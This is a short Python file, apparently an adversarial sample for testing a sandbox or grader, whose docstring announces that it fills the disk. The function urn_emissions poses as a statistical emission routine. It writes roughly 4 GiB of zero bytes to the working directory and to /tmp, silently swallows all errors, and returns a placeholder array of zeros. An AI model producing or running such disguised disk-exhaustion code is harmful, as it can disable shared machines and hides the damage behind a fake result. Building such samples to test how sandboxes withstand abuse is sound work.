"""Fill the disk: write a multi-gigabyte file in the working directory and /tmp."""
import numpy as np


def urn_emissions(red, blue):
    chunk = b"\0" * (1 << 20)
    for p in ("big.bin", "/tmp/big.bin"):
        try:
            with open(p, "wb") as f:
                for _ in range(4096):
                    f.write(chunk)
        except (OSError, BaseException):
            pass
    return np.zeros((len(red), 2))
